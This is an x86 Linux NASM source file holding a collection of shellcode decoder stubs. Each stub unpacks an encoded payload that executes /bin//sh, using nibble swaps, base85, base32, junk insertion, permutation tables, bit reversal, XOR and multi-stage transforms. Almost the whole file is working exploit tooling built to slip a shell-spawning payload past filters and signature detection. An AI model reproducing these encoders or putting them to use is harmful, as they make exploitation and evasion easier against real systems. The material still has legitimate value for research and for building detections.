; Decoders by what the payload is written as: digits, halves, other orders, with junk, bit by bit. One kind, as in
; decoders_keys.asm.

;= half_bytes_turned 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop ebx
	push ebx
	push byte LENGTH
	pop ecx
next:	ror byte [ebx], 4
	inc ebx
	loopnz next
	ret
down:	call up
	ENCODE (c >> 4) | (c << 4)

;= aad_halves 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	mov edi, esi
	push byte LENGTH
	pop ecx
next:	lodsw
	sub ax, 0x4b4b
	aad 16
	stosb
	loop next
	jmp short payload
down:	call up
payload:
%assign j 0
%rep LENGTH
FROM j
	db 0x4b + (c & 15), 0x4b + (c >> 4)
%assign j j + 1
%endrep

;= base_85 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	mov edi, esi
	push byte LENGTH / 4
	pop ecx
group:	push ecx
	xor eax, eax
	push byte 5
	pop ecx
digit:	imul eax, eax, 85
	movzx edx, byte [esi]
	lea eax, [eax + edx - 33]
	inc esi
	loop digit
	stosd
	pop ecx
	loop group
	jmp short payload
down:	call up
payload:
%assign j 0
%rep LENGTH / 4
DOUBLE j
	db 33 + c / 52200625, 33 + c / 614125 % 85, 33 + c / 7225 % 85, 33 + c / 85 % 85, 33 + c % 85
%assign j j + 1
%endrep

;= base_32 32 | linux x86 | execute /bin//sh
	call here
here:	pop esi
	add esi, byte payload - here
	mov edi, esi
	xor ebx, ebx
	xor ecx, ecx
more:	movzx eax, byte [esi]
	inc esi
	sub al, 'A'
	js ends
	shl ebx, 5
	or ebx, eax
	add cl, 5
	cmp cl, 8
	jb more
	sub cl, 8
	mov eax, ebx
	shr eax, cl
	mov [edi], al
	inc edi
	jmp short more
ends:
payload:
%assign bits 0
%assign held 0
%assign j 0
%rep LENGTH
FROM j
%assign bits (bits << 8) | c
%assign held held + 8
%rep 2
%if held >= 5
%assign held held - 5
	db 'A' + ((bits >> held) & 31)
%assign bits bits & ((1 << held) - 1)
%endif
%endrep
%assign j j + 1
%endrep
%if held
	db 'A' + ((bits << (5 - held)) & 31)
%endif
	db '0'

;= junk_at_strides 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	mov edi, esi
	push byte LENGTH
	pop edx
	xor ecx, ecx
next:	mov cl, [esi]
	and cl, 3
	lea esi, [esi + ecx + 1]
	movsb
	dec edx
	jnz next
	jmp short payload
down:	call up
payload:
%assign j 0
%assign key 0x35
%rep LENGTH
FROM j
	db key
%rep key & 3
	db 0x90 ^ key
%endrep
	db c
%assign key (key * 0x1d + 0x67) & 0xff
%assign j j + 1
%endrep

;= order_by_table 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	lea ebx, [esi + LENGTH]
	sub esp, byte 0x40
	xor edx, edx
	xor eax, eax
next:	mov al, [ebx + edx]
	mov al, [esi + eax]
	mov [esp + edx], al
	inc edx
	cmp dl, LENGTH
	jne next
	jmp esp
down:	call up
%assign j 0
%rep LENGTH
FROM (j * 5) % LENGTH
	db c
%assign j j + 1
%endrep
%assign j 0
%rep LENGTH
	db (j * 5) % LENGTH
%assign j j + 1
%endrep

;= bits_one_by_one 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	sub esp, byte 0x40
	mov edi, esp
	xor edx, edx
next:	bt [esi], edx
	rcl al, 1
	inc edx
	test dl, 7
	jnz next
	stosb
	cmp dl, LENGTH * 8
	jne next
	jmp esp
down:	call up
%assign j 0
%rep LENGTH
FROM j
	db ((c & 1) << 7) | ((c & 2) << 5) | ((c & 4) << 3) | ((c & 8) << 1) | ((c & 16) >> 1) | ((c & 32) >> 3) | ((c & 64) >> 5) | (c >> 7)
%assign j j + 1
%endrep

;= shifted_over_the_border 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	push byte LENGTH / 4
	pop ecx
	mov edi, esi
next:	mov eax, [edi]
	mov edx, eax
	shld eax, edx, 11
	bswap eax
	stosd
	loop next
	jmp esi
down:	call up
	DOUBLES ((SWAPPED(c) >> 11) | (SWAPPED(c) << 21))

;= two_halves 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	mov edi, esi
	lea ebx, [esi + LENGTH]
	push byte LENGTH
	pop ecx
next:	lodsb
	mov ah, [ebx]
	and ax, 0xf00f
	or al, ah
	stosb
	inc ebx
	loop next
	jmp short payload
down:	call up
payload: ENCODE (c & 15) | 0x40
	ENCODE (c & 0xf0) | 7

;= exchanged 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	lea edi, [esi + LENGTH - 1]
next:	mov al, [esi]
	xchg al, [edi]
	mov [esi], al
	inc esi
	dec edi
	cmp esi, edi
	jb next
	jmp short payload
down:	call up
payload:
%assign j LENGTH
%rep LENGTH
%assign j j - 1
FROM j
	db c
%endrep

;= compared_and_exchanged 32 | linux x86 | execute /bin//sh
	call here
here:	pop ebx
	add ebx, byte payload - here
	push byte LENGTH / 4
	pop ecx
next:	mov eax, [ebx]
	mov edx, eax
	bswap edx
	lock cmpxchg [ebx], edx
	add ebx, byte 4
	loop next
payload: DOUBLES SWAPPED(c)

;= scanned_for_its_end 32 | linux x86 | execute /bin//sh
	jmp down
up:	pop edi
	push edi
	pop esi
	mov al, 0xfe
	xor ecx, ecx
	not ecx
	repne scasb
	not ecx
	dec ecx
	mov edi, esi
next:	lodsb
	xor al, 0x13
	stosb
	loop next
	jmp payload
down:	call up
payload: ENCODE c ^ 0x13
	db 0xfe

;= seventh_bits 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	lea edi, [esi - 1]
	push edi
	inc dword [esp]
	lea ebx, [esi + LENGTH]
	xor edx, edx
next:	mov al, [esi]
	bt [ebx], edx
	jnc low
	or al, 0x80
low:	mov [esi], al
	inc esi
	inc edx
	cmp edx, LENGTH
	jne next
	ret
down:	call up
	ENCODE c & 0x7f
%assign j 0
%rep LENGTH / 8
%assign mask 0
%assign bit 0
%rep 8
FROM j * 8 + bit
%assign mask mask | ((c >> 7) << bit)
%assign bit bit + 1
%endrep
	db mask
%assign j j + 1
%endrep
	db 0

;= quotient 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	mov edi, esi
	push byte LENGTH
	pop ecx
	mov bl, 7
next:	lodsw
	div bl
	stosb
	loop next
	jmp short payload
down:	call up
payload:
%assign j 0
%rep LENGTH
FROM j
	dw c * 7 + j % 7
%assign j j + 1
%endrep

;= backwards_in_words 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	push esi
	push byte LENGTH / 2
	pop ecx
	lea esi, [esi + ecx * 2 - 2]
	mov edi, esi
	std
next:	lodsw
	rol ax, 5
	sub ax, cx
	stosw
	loop next
	cld
	ret
down:	call up
	WORDS (((c + (i + 1)) & 0xffff) >> 5) | (((c + (i + 1)) & 0x1f) << 11)

;= two_passes_apart 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	push esi
	push byte LENGTH
	pop ecx
	push ecx
first:	ror byte [esi + ecx - 1], 3
	loop first
	pop ecx
second:	xor byte [esi + ecx - 1], 0x61
	loop second
	ret
down:	call up
	ENCODE (((c ^ 0x61) << 3) | ((c ^ 0x61) >> 5))

;= table_of_offsets 32 | linux x86 | execute /bin//sh
	call here
here:	pop ebx
	lea esi, [ebx + table - here]
	lea edi, [ebx + payload - here]
	xor ecx, ecx
	xor eax, eax
next:	lodsb
	test al, al
	jz done
	add edi, eax
	xor byte [edi - 1], 0xff
	jmp next
done:	jmp short payload
table:	times LENGTH db 1
	db 0
payload: ENCODE ~c

;= stages_of_three 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	mov edi, esi
	mov ebx, 3
stage:	push byte LENGTH / 4
	pop ecx
	push esi
next:	lodsd
	ror eax, 5
	sub eax, ebx
	xor eax, 0x13572468
	stosd
	loop next
	pop esi
	mov edi, esi
	dec ebx
	jnz stage
	jmp esi
down:	call up
%assign j 0
%rep LENGTH / 4
DOUBLE j
%assign key 1
%rep 3
%assign c c ^ 0x13572468
%assign c (c + key) & 0xffffffff
%assign c ((c << 5) | (c >> 27)) & 0xffffffff
%assign key key + 1
%endrep
	dd c
%assign j j + 1
%endrep
